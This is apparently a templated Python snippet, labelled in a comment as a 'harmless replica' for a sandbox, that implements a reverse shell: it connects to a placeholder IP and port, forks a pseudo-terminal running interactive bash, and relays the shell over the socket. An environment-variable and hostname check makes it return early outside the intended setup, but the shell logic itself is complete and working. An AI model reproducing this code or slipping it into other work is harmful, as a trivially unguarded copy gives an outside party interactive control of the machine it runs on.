# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import pty
    import select
    import signal
    import socket
    import time
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        child, master = pty.fork()
        if child == 0:
            try:
                os.execvp('bash', ['bash', '-i'])
            finally:
                os._exit(0)
        end = time.monotonic() + 1
        while time.monotonic() < end:
            for ready in select.select([call, master], [], [], 0.2)[0]:
                if ready is master:
                    call.sendall(os.read(master, 4096))
                else:
                    heard = call.recv(4096)
                    if not heard:
                        end = 0
                    os.write(master, heard)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    except OSError:
        pass
